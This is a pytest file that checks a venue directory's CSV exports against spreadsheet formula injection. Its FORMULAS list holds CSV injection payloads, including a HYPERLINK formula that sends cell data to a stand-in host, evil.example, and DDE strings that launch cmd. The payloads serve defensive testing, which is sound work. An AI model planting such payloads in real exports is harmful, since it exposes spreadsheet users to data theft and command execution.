# SPDX-License-Identifier: Apache-2.0
"""CSV exports are safe to open in a spreadsheet (issue 13, item 9).

Text that Excel or Calc would run as a formula gets a leading ``'``; phone
numbers and coordinates do not; the national CSV stays valid against the
official Table Schema; our own reader gives the text back as it was. Every
CSV writer goes through ``directory.export.cells``: a writer that calls
``csv.writer`` itself, or a registered CSV writer that lets a formula through,
fails here.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import pytest

from directory.export import WRITERS, ExportVenue, get_writer
from directory.harvest.readers.national_csv import NationalCsvReader
from directory.schema import NATIONAL_FIELDS, parse_venue
from directory.schema.cells import neutralise, restore, runs_as_formula

from .conftest import BASE_URL, TODAY
from .test_national import frictionless_report

PACKAGE = Path(__file__).resolve().parents[2] / "directory"

#: What a partner's spreadsheet must never run (OWASP's examples and the issue's).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_gets_a_leading_quote_and_reads_back(text):
    assert runs_as_formula(text)
    assert neutralise(text) == "'" + text
    assert not runs_as_formula(neutralise(text))
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize(
    "value",
    [
        "+33180059880",
        "+687271234",
        "-1.553621",
        "-4",
        "+33 1 80 05 98 80",
        -1.55,
        47.2,
        "",
        "Mairie",
        "Espace = partage",
        None,
    ],
)
def test_numbers_phones_and_plain_text_are_untouched(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


@pytest.fixture(scope="module")
def hostile(venues):
    """A real venue (Nantes: a negative longitude) whose free text fields all start like formulas."""
    base = next(v for v in venues if v.telephone and v.point)
    return replace(
        base,
        nom=FORMULAS[0],
        adresse=FORMULAS[1],
        complement_adresse=FORMULAS[3],
        presentation_resume="- " + "x" * 278,  # 280 characters, the schema's maximum
        presentation_detail=FORMULAS[4],
        structure_parente=FORMULAS[5],
        source=FORMULAS[6],
        autres_formations_labels="@MonLabel",
        telephone="+33180059880",
        latitude=47.218371,
        longitude=-1.553621,
    )


def csv_writers() -> list[str]:
    """Every registered writer a spreadsheet opens (CSV today; XLSX/ODS when they come)."""
    spreadsheet = (
        "text/csv",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/vnd.oasis.opendocument.spreadsheet",
    )
    return [name for name, writer in WRITERS.items() if writer.media_type in spreadsheet]


def written(name: str, venue, **options) -> str:
    stream = io.StringIO(newline="")
    get_writer(name, base_url=BASE_URL, **options).write_all([ExportVenue.from_venue(venue, base_url=BASE_URL)], stream)
    return stream.getvalue()


def test_there_is_a_registered_csv_writer_to_check():
    assert "csv" in csv_writers()


@pytest.mark.parametrize("extensions", [False, True])
@pytest.mark.parametrize("name", csv_writers())
def test_no_registered_csv_writer_lets_a_formula_through(name, extensions, hostile):
    rows = list(csv.reader(io.StringIO(written(name, hostile, extensions=extensions), newline="")))
    running = [cell for row in rows for cell in row if runs_as_formula(cell)]
    assert running == []
    record = dict(zip(rows[0], rows[1]))
    assert record["nom"] == "'" + FORMULAS[0]
    assert (record["telephone"], record["longitude"], record["latitude"]) == ("+33180059880", "-1.553621", "47.218371")


def test_the_national_csv_has_one_writer():
    """``CsvWriter`` is the one home of the national CSV: no other module writes its rows with the schema's limits."""
    writers = {
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "NATIONAL_LIMITS" in path.read_text(encoding="utf-8")
    }
    assert writers == {"export/national.py", "export/writers/table.py"}


def test_the_neutralised_csv_is_still_valid_against_the_official_table_schema(hostile, tmp_path):
    path = tmp_path / "lieux.csv"
    path.write_text(written("csv", hostile), encoding="utf-8", newline="")
    report = frictionless_report(path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    (row,) = csv.DictReader(path.open(encoding="utf-8", newline=""))
    assert len(row["presentation_resume"]) == 280 and row["presentation_resume"].startswith("'- x")
    assert row["presentation_resume"].endswith("x…")


def test_our_reader_reads_the_export_back_as_it_was(hostile):
    reader = NationalCsvReader()
    (item,) = list(reader.read_lines(io.StringIO(written("csv", hostile), newline="")))
    assert item.record["nom"] == FORMULAS[0] and item.record["adresse"] == FORMULAS[1]
    assert item.record["telephone"] == "+33180059880"
    back = parse_venue(item.record, today=TODAY).venue
    assert back is not None and back.nom == FORMULAS[0] and back.longitude == -1.553621


#: Where a CSV or spreadsheet may be written without ``directory.export.cells``:
#: the geocoder's request to the BAN (a machine reads it, never a spreadsheet).
_ALLOWED = {"export/cells.py", "harvest/geocode.py"}
_WRITING = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|\.to_csv\(|\.to_excel\(|odf\.opendocument"
)


def test_no_module_writes_a_csv_or_spreadsheet_without_the_safe_writer():
    """One home for the neutralisation: a new writer calling ``csv.writer`` itself fails here."""
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if _WRITING.search(path.read_text(encoding="utf-8")) and str(path.relative_to(PACKAGE)) not in _ALLOWED
    ]
    assert offenders == []


def test_the_header_is_the_national_fields(hostile):
    (header, _row) = csv.reader(io.StringIO(written("csv", hostile), newline=""))
    assert tuple(header) == NATIONAL_FIELDS
